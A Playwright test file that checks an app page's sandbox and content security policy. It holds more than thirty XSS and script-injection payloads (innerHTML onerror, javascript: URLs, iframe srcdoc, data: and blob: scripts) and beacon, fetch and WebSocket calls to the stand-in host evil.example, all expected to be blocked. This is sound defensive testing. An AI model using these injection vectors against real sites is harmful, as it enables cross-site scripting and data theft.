/** The page is taken to be hostile: what it can reach, run, load and open (promises A2, A5, A6). */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from './fixture.ts';

test('A2: the page has nothing of Node', async ({ openPage }) => {
  const page = await openPage();
  const found = await page.evaluate(() => ['require', 'process', 'module', 'global', 'Buffer', 'ipcRenderer', '__dirname', 'electron'].filter((name) => name in window));
  expect(found).toEqual([]);
});

/** Each tries to set `window.executed`; `setup` is text because the page compiles none of it itself. */
const PAYLOADS: readonly [string, string][] = [
  ['inline script element', `const s = document.createElement('script'); s.textContent = 'window.executed = 1'; document.body.append(s)`],
  ['inline script by text node', `const s = document.createElement('script'); s.append('window.executed = 1'); document.body.append(s)`],
  ['script from data:', `const s = document.createElement('script'); s.src = 'data:text/javascript,window.executed=1'; document.body.append(s)`],
  ['script from blob:', `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.executed=1'])); document.body.append(s)`],
  ['script from another origin', `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`],
  ['module from data:', `const s = document.createElement('script'); s.type = 'module'; s.src = 'data:text/javascript,window.executed=1'; document.body.append(s)`],
  ['eval', `eval('window.executed = 1')`],
  ['indirect eval', `(0, eval)('window.executed = 1')`],
  ['Function constructor', `new Function('window.executed = 1')()`],
  ['async function constructor', `(async () => {}).constructor('window.executed = 1')()`],
  ['setTimeout with text', `setTimeout('window.executed = 1', 0)`],
  ['setInterval with text', `setInterval('window.executed = 1', 10)`],
  ['dynamic import of data:', `void import('data:text/javascript,window.executed=1').catch(() => undefined)`],
  ['innerHTML img onerror', `document.body.innerHTML = '<img src=x onerror="window.executed=1">'`],
  ['innerHTML svg onload', `document.body.innerHTML = '<svg onload="window.executed=1">'`],
  ['outerHTML', `document.body.outerHTML = '<body onload="window.executed=1">'`],
  ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.executed=1">')`],
  ['document.write', `document.write('<script>window.executed=1</scr' + 'ipt>')`],
  ['contextual fragment', `document.body.append(document.createRange().createContextualFragment('<script>window.executed=1</scr' + 'ipt>'))`],
  ['DOMParser', `document.body.append(document.adoptNode(new DOMParser().parseFromString('<script>window.executed=1</scr' + 'ipt>', 'text/html').querySelector('script')))`],
  ['onclick attribute', `const b = document.createElement('button'); b.setAttribute('onclick', 'window.executed = 1'); document.body.append(b); b.click()`],
  ['javascript: link', `const a = document.createElement('a'); a.href = 'javascript:window.executed=1'; document.body.append(a); a.click()`],
  ['javascript: location', `location.href = 'javascript:window.executed=1'`],
  ['javascript: form', `const f = document.createElement('form'); f.action = 'javascript:window.executed=1'; document.body.append(f); f.submit()`],
  ['iframe srcdoc', `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.executed=1</scr' + 'ipt>'; document.body.append(f)`],
  ['iframe javascript:', `const f = document.createElement('iframe'); f.src = 'javascript:parent.executed=1'; document.body.append(f)`],
  ['object data:', `const o = document.createElement('object'); o.data = 'data:text/html,<script>parent.executed=1</scr' + 'ipt>'; document.body.append(o)`],
  ['embed svg', `const e = document.createElement('embed'); e.src = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.executed=1"/>'; document.body.append(e)`],
  ['worker from blob:', `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.executed = 1 }`],
  ['worker from data:', `new Worker('data:text/javascript,postMessage(1)').onmessage = () => { window.executed = 1 }`],
  ['base element', `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (new URL('x', document.baseURI).host === 'evil.example') window.executed = 1`],
  ['trusted types policy', `const p = trustedTypes.createPolicy('default', { createHTML: (t) => t, createScript: (t) => t, createScriptURL: (t) => t }); window.executed = 1`],
];

test('A5: of thirty payloads none is executed, and what was stopped is reported', async ({ serve, page }) => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  // The payloads come as a script of the page's own origin, so that the page's policy judges them and no test tool stands above it.
  const script = [...PAYLOADS, ['control', 'window.executed = 1']].map(([, code]) => `(() => { try { ${code} } catch { /* stopped */ } })`).join(',\n');
  await page.route('**/payloads.js', (route) => route.fulfill({ contentType: 'text/javascript', body: `window.payloads = [${script}];` }));
  await page.route('**/', async (route) => {
    const answer = await route.fetch();
    const html = (await answer.text()).replace('</head>', '<script src="/payloads.js"></script></head>');
    await route.fulfill({ response: answer, body: html });
  });
  await page.goto(serve.link());
  await page.waitForURL(`${serve.origin}/`);
  const executed: string[] = [];
  for (const [index, [name]] of PAYLOADS.entries()) {
    await page.goto(`${serve.origin}/`);
    await page.waitForFunction(() => Reflect.has(window, 'payloads'));
    const loaded = page.url();
    await page.evaluate((at) => setTimeout(() => Reflect.get(window, 'payloads')[at](), 0), index);
    await page.waitForTimeout(150);
    if (await page.evaluate(() => Reflect.has(window, 'executed'))) executed.push(name);
    expect(page.url(), name).toBe(loaded);
  }
  expect(executed).toEqual([]);
  // The same way in does notice what runs: a plain line of an own script.
  await page.evaluate(() => setTimeout(() => Reflect.get(window, 'payloads').at(-1)(), 0));
  await page.waitForFunction(() => Reflect.has(window, 'executed'));
});

test('A5: nothing is fetched from anywhere else, and violations are told to the core', async ({ serve, openPage }) => {
  const page = await openPage();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const image = new Image();
    image.src = 'https://evil.example/beacon.gif';
    const style = document.createElement('style');
    style.textContent = 'body { outline: 9px solid red }';
    document.head.append(style);
    const fetched = await fetch('https://evil.example/').then(() => 'fetched', () => 'refused');
    const socket = await new Promise((resolve) => {
      try {
        const line = new WebSocket('wss://evil.example/');
        line.addEventListener('error', () => resolve('refused'));
        line.addEventListener('open', () => resolve('open'));
      } catch {
        resolve('refused');
      }
    });
    navigator.sendBeacon('https://evil.example/', 'x');
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { violations, fetched, socket, outline: getComputedStyle(document.body).outlineWidth };
  });
  expect(outcome.fetched).toBe('refused');
  expect(outcome.socket).toBe('refused');
  expect(outcome.outline).not.toBe('9px');
  for (const directive of ['img-src', 'style-src-elem', 'connect-src']) expect(outcome.violations).toContain(directive);
  await expect.poll(() => readFile(join(serve.dataFolder, 'logs', 'signalbox.log'), 'utf8')).toContain('img-src');
});

test('A6: the page gets no camera, no place, no notification, and cannot be framed or framed from', async ({ openPage }) => {
  const page = await openPage();
  const outcome = await page.evaluate(async () => {
    const refused = (work: Promise<unknown>): Promise<string> => work.then(() => 'granted', () => 'refused');
    return {
      camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })),
      screen: await refused(navigator.mediaDevices.getDisplayMedia()),
      place: await refused(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
      opener: window.opener === null,
      isolated: window.parent === window,
    };
  });
  expect(outcome).toEqual({ camera: 'refused', screen: 'refused', place: 'refused', opener: true, isolated: true });
});

test('the page works under its own policy: no violation on the way up', async ({ serve, page }) => {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Reflect.set(window, 'seenViolations', seen);
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
  });
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(String(error)));
  await page.goto(serve.link());
  await page.waitForURL(`${serve.origin}/`);
  await expect(page.locator('#root > *').first()).toBeVisible();
  await page.waitForTimeout(1_000);
  expect(await page.evaluate(() => Reflect.get(window, 'seenViolations'))).toEqual([]);
  expect(errors).toEqual([]);
});
